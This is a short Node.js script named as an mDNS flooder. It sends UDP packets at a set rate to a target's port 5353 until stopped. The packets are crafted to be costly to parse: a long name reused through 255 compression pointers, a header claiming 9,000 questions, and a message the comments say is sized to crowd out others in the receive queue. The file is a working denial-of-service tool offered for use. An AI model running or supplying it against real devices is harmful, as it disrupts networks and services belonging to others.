/**
 * Sends what is dear to read to a computer that announces: `node mdns-flooder.cjs OWN_ADDRESS ADDRESS PACKETS_A_SECOND`, until it is
 * ended. Says `sent COUNT` each second.
 */
const { createSocket } = require('node:dgram');

const [own, target, perSecond] = process.argv.slice(2);
const MDNS_PORT = 5353;
const INTERVAL_MS = 10;

/** One name of 126 labels, for which the names of 255 records stand, and those that they lead to. */
function sharedNames() {
  const start = 12;
  const name = Buffer.concat(
    [...Array(126)].map((_, index) => Buffer.from([1, 0x61 + (index % 26)])).concat(Buffer.from([0])),
  );
  const pointer = Buffer.from([0xc0, start]);
  // SRV: priority, weight and port before the name.
  const fields = Buffer.from([0, 33, 0, 1, 0, 0, 0, 120, 0, 8, 0, 0, 0, 0, 0x1f, 0x40]);
  const records = [...Array(255)].flatMap(() => [pointer, fields, pointer]);
  const header = Buffer.from([0, 0, 0, 0, 0, 1, 0, 255, 0, 0, 0, 0]);
  return Buffer.concat([header, name, Buffer.from([0, 255, 0, 1]), ...records]);
}

/** More questions than anybody has. */
function manyQuestions() {
  const question = Buffer.from([1, 0x78, 0, 0, 1, 0, 1]);
  const count = 9_000;
  return Buffer.concat([
    Buffer.from([0, 0, 0, 0, count >> 8, count & 255, 0, 0, 0, 0, 0, 0]),
    ...Array(count).fill(question),
  ]);
}

/** What is answered: who is there by HTTP, asked by a plain client. */
function query() {
  const labels = ['_http', '_tcp', 'local'].flatMap((label) => [Buffer.from([label.length]), Buffer.from(label)]);
  return Buffer.concat([Buffer.from([0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 12, 0, 1])]);
}

/** The largest would leave no room for others where they wait to be read. */
const MESSAGES = [...Array(9).fill(sharedNames()), ...Array(10).fill(query()), manyQuestions()];
const socket = createSocket('udp4');
let sent = 0;
socket.on('error', () => undefined);
socket.bind(0, own, () => {
  setInterval(() => {
    for (let count = 0; count < (Number(perSecond) * INTERVAL_MS) / 1000; count += 1) {
      socket.send(MESSAGES[sent % MESSAGES.length], MDNS_PORT, target);
      sent += 1;
    }
  }, INTERVAL_MS);
  setInterval(() => process.stdout.write(`sent ${sent}\n`), 1000);
});
